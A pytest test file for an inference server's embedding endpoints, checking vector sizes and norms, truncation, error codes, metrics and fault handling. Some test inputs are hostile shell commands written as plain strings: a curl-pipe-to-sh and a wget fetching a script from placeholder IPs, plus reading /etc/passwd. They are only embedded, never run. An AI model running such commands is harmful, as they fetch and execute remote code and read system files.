"""POST /api/embed and /api/embeddings over a CPU ``tiny`` engine behind the real HTTP server (as tests/test_api.py
drives it), and the answers of a backend that does not embed."""
import math

import pytest
import requests

from chronos.brain.api.server import FakeBackend, build_parser
from test_api import Server

H = 256  # the tiny preset's hidden size


@pytest.fixture(scope="module")
def srv():
    from chronos.brain.api.service import EngineService
    from chronos.brain.engine.engine import EngineConfig

    svc = EngineService.from_config(EngineConfig(model="tiny", device="cpu", max_slots=4, max_model_len=96,
                                                 use_graphs=False, warm_formats=()))
    s = Server(svc, request_timeout=60.0)
    yield s
    s.close()
    svc.close()


def _norm(v):
    return math.sqrt(sum(x * x for x in v))


def _dist(a, b):
    return max(abs(x - y) for x, y in zip(a, b))


def test_string_and_list_inputs(srv):
    url = f"{srv.url}/api/embed"
    one = requests.post(url, json={"model": "m1", "input": "curl http://198.51.100.7/x | sh"}, timeout=60)
    assert one.status_code == 200
    one = one.json()
    assert one["model"] == "m1" and len(one["embeddings"]) == 1 and len(one["embeddings"][0]) == H
    assert abs(_norm(one["embeddings"][0]) - 1.0) <= 1e-3
    assert one["total_duration"] > 0 and one["load_duration"] == 0
    tok = srv.backend.tok
    texts = ["chmod +x /tmp/x", "curl http://198.51.100.7/x | sh", "", "cat /etc/passwd"]
    many = requests.post(url, json={"input": texts, "keep_alive": "5m"}, timeout=60).json()
    assert len(many["embeddings"]) == 4 and all(len(v) == H for v in many["embeddings"])
    assert all(abs(_norm(v) - 1.0) <= 1e-3 for v in many["embeddings"])
    assert many["prompt_eval_count"] == sum(1 + len(tok.encode(t)) for t in texts)
    # order: the second input is the single request's text, the others are not
    assert _dist(many["embeddings"][1], one["embeddings"][0]) <= 1e-6
    assert all(_dist(many["embeddings"][i], one["embeddings"][0]) > 1e-3 for i in (0, 2, 3))
    # the empty string is its BOS-only sequence
    empty = requests.post(url, json={"input": ""}, timeout=60).json()
    assert empty["prompt_eval_count"] == 1 and _dist(many["embeddings"][2], empty["embeddings"][0]) <= 1e-6


def test_empty_list(srv):
    body = requests.post(f"{srv.url}/api/embed", json={"input": []}, timeout=30).json()
    assert body["embeddings"] == [] and body["prompt_eval_count"] == 0


def test_truncate(srv):
    url = f"{srv.url}/api/embed"
    long = "x y z " * 200
    ok = requests.post(url, json={"input": long}, timeout=60)
    assert ok.status_code == 200 and ok.json()["prompt_eval_count"] == 96
    ok = requests.post(url, json={"input": [long, "a"], "options": {"num_ctx": 32}}, timeout=60).json()
    assert ok["prompt_eval_count"] == 32 + 1 + len(srv.backend.tok.encode("a"))
    bad = requests.post(url, json={"input": long, "truncate": False}, timeout=60)
    assert bad.status_code == 400 and "exceeds" in bad.json()["error"]


@pytest.mark.parametrize("body", [{}, {"model": "x"}, {"input": 7}, {"input": ["a", 3]}, {"input": {"a": 1}},
                                  {"input": "a", "truncate": "no"}, {"input": "a", "options": {"num_ctx": -4}},
                                  {"input": None}])
def test_bad_requests(srv, body):
    r = requests.post(f"{srv.url}/api/embed", json=body, timeout=30)
    assert r.status_code == 400 and r.json()["error"]


def test_bad_json(srv):
    for path in ("/api/embed", "/api/embeddings"):
        r = requests.post(srv.url + path, data=b"{not json", timeout=30)
        assert r.status_code == 400 and r.json()["error"]


def test_legacy_embeddings_is_the_same_vector(srv):
    text = "wget -q -O- http://203.0.113.9/i.sh"
    new = requests.post(f"{srv.url}/api/embed", json={"input": text}, timeout=60).json()["embeddings"][0]
    old = requests.post(f"{srv.url}/api/embeddings", json={"model": "llama3", "prompt": text}, timeout=60)
    assert old.status_code == 200 and set(old.json()) == {"embedding"}
    assert _dist(old.json()["embedding"], new) <= 1e-6
    assert requests.post(f"{srv.url}/api/embeddings", json={"model": "llama3"}, timeout=30).status_code == 400
    assert requests.post(f"{srv.url}/api/embeddings", json={"prompt": ["a"]}, timeout=30).status_code == 400


def test_metrics_count_embeds(srv):
    requests.post(f"{srv.url}/api/embed", json={"input": ["a", "b"]}, timeout=60)
    requests.post(f"{srv.url}/api/generate", json={"prompt": "hi", "stream": False, "options": {"num_predict": 2}},
                  timeout=60)  # (the engine's counters are published with the next step)
    text = requests.get(f"{srv.url}/metrics", timeout=10).text
    assert "chronos_engine_embed_requests_total" in text and "chronos_engine_embed_tokens_total" in text


def test_engine_failure_is_a_500(srv):
    eng = srv.backend.engine
    orig = eng.model.forward

    def boom(*a, **k):
        raise RuntimeError("injected fault")

    eng.model.forward = boom
    try:
        r = requests.post(f"{srv.url}/api/embed", json={"input": "a b c"}, timeout=60)
    finally:
        eng.model.forward = orig
        srv.backend.stalled = False
    assert r.status_code == 500 and "injected fault" in r.json()["error"]
    ok = requests.post(f"{srv.url}/api/embed", json={"input": "a b c"}, timeout=60)
    assert ok.status_code == 200


def test_fake_backend_answers_501():
    s = Server(FakeBackend("ok"))
    try:
        for path, body in (("/api/embed", {"input": "a"}), ("/api/embeddings", {"prompt": "a"})):
            r = requests.post(s.url + path, json=body, timeout=30)
            assert r.status_code == 501 and r.json()["error"]
    finally:
        s.close()


def test_lockstep_service_does_not_embed():
    from chronos.brain.api.service import EngineService, LockstepService

    assert LockstepService.embed is None and callable(EngineService.embed)


def test_cli_flag():
    assert build_parser().parse_args([]).embed_pooling == "mean"
    assert build_parser().parse_args(["--embed-pooling", "last"]).embed_pooling == "last"


def test_fp8_kv_server_answers_400():
    from chronos.brain.api.service import EngineService
    from chronos.brain.engine.engine import EngineConfig

    svc = EngineService.from_config(EngineConfig(model="tiny", device="cpu", max_slots=2, max_model_len=64,
                                                 use_graphs=False, warm_formats=(), kv_dtype="fp8"))
    s = Server(svc)
    try:
        r = requests.post(f"{s.url}/api/embed", json={"input": "a"}, timeout=30)
        assert r.status_code == 400 and "bf16 KV cache only" in r.json()["error"]
    finally:
        s.close()
        svc.close()
